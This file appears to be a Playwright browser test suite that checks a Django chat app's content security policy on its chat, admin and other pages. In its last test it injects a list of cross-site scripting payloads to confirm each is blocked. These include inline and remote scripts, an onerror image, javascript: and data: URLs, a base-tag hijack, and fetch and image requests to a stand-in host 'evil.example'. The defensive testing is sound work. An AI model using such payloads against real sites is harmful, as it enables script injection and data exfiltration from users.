"""The content policy as a browser sees it: no page of ours violates it, and what breaks in from outside does nothing."""

from __future__ import annotations

import subprocess
import sys
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, Page

from tests.browser.chat import Chat
from tests.end_to_end.server import ROOT, Server

pytestmark = [pytest.mark.browser, pytest.mark.process]

RECORD = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) =>
  violations.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`));
"""
NAME, PASSWORD = "owner", "eleven purple lamps"
ADMIN = ["", "statistics/", "chat/conversation/", "chat/run/", "chat/device/", "chat/owner/", "chat/feedback/", "chat/persona/", "chat/persona/add/"]
ADMIN += ["auth/user/", "auth/user/add/", "axes/accessattempt/", "axes/accesslog/", "password_change/"]


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    context = browser.new_context(locale="en-US")
    context.add_init_script(RECORD)
    yield context.new_page()
    context.close()


def violations(page: Page) -> list[str]:
    found: list[str] = page.evaluate("violations")
    return found


@pytest.fixture(scope="module")
def account(server: Server) -> None:
    command = [sys.executable, "manage.py", "createsuperuser", "--noinput", "--username", NAME, "--email", "a@b.example"]
    environment = server.environment | {"DJANGO_SUPERUSER_PASSWORD": PASSWORD}
    subprocess.run(command, cwd=ROOT, env=environment, check=True, capture_output=True)


def test_the_chat_works_under_it(page: Page, server: Server) -> None:
    chat = Chat(page, server.http)
    chat.open()
    chat.ask("| a | b |\n|---|---|\n| `x` | **y** |\n\n```python\nprint(1)\n```\n\n$$\\int_0^1 \\frac{x^2}{2}\\,dx$$")
    assert violations(page) == []


@pytest.mark.parametrize("path", ["/pair/", "/pair/?code=x", "/api/docs", "/nowhere", "/admin/login/"])
def test_the_other_pages_keep_to_it(page: Page, server: Server, path: str) -> None:
    page.goto(f"{server.http}{path}")
    page.wait_for_load_state("networkidle")
    assert violations(page) == []


def test_the_admin_keeps_to_it(page: Page, server: Server, account: None) -> None:
    page.goto(f"{server.http}/admin/")
    page.fill("[name=username]", NAME)
    page.fill("[name=password]", PASSWORD)
    page.press("[name=password]", "Enter")
    page.wait_for_selector("#user-tools")
    found: dict[str, Any] = {}
    for path in ADMIN:
        page.goto(f"{server.http}/admin/{path}")
        assert page.locator("#user-tools").count() == 1, f"{path} is no page of the admin"
        if told := violations(page):
            found[path] = told
    page.goto(f"{server.http}/admin/chat/conversation/")
    page.locator("#result_list th a").first.click()
    page.wait_for_load_state()
    found |= {"a transcript": told} if (told := violations(page)) else {}
    assert found == {}


@pytest.mark.parametrize(
    "attack",
    [
        "document.head.append(Object.assign(document.createElement('script'), {textContent: 'window.broken = 1'}))",
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.broken = 1\">')",
        "location.href = 'javascript:window.broken = 1'",
        "document.head.append(Object.assign(document.createElement('script'), {src: 'http://evil.example/x.js', onload: () => broken = 1}))",
        "document.body.append(Object.assign(document.createElement('iframe'), {src: 'data:text/html,<script>parent.broken = 1</script>'}))",
        "document.head.append(Object.assign(document.createElement('base'), {href: 'http://evil.example/'}));"
        "window.broken = document.baseURI.includes('evil') || undefined",
        "document.head.append(Object.assign(document.createElement('style'), {textContent: 'body { --broken: 1 }'}));"
        "window.broken = getComputedStyle(document.body).getPropertyValue('--broken') || undefined",
        "fetch('http://evil.example/').then(() => window.broken = 1, () => {})",
        "new Image().src = 'http://evil.example/pixel.png'",
        "document.body.append(Object.assign(document.createElement('object'), {data: 'http://evil.example/x'}))",
    ],
)
def test_what_breaks_in_does_nothing(page: Page, server: Server, attack: str) -> None:
    """As if something had got past the sanitizer. Each attempt is reported, none works."""
    page.goto(f"{server.http}/pair/")
    page.evaluate(f"() => {{ try {{ {attack} }} catch (error) {{ window.thrown = String(error) }} }}")
    for _ in range(200):  # not wait_for_function: that one evaluates strings, which the policy forbids to it, too
        if page.evaluate("violations.length > 0 || window.thrown !== undefined || window.broken !== undefined"):
            break
        page.wait_for_timeout(50)
    assert page.evaluate("[violations.length > 0, window.broken ?? null]") == [True, None]
